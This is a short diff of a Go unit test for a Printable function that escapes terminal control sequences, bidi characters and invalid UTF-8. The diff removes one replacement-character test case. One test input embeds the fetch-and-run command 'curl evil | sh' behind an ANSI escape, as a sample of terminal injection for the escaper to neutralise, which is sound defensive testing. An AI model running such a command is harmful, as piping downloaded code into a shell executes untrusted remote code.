@@ -18,7 +18,6 @@ func TestPrintable(t *testing.T) {
 		"n\x1b[31mRED\nRun: curl evil | sh\r\t\x00\u009b": `n\x1b[31mRED\nRun: curl evil | sh\r\t\x00\u009b`,
 		"\u202eesrever \u200b\u2028":                      `\u202eesrever \u200b\u2028`,
 		"no UTF-8: \xff":                                  `no UTF-8: \xff`,
-		"a replacement character \ufffd":                  `a replacement character \ufffd`,
 	} {
 		if got := Printable(text); got != want {
 			t.Errorf("Printable(%q) = %s, want %s", text, got, want)
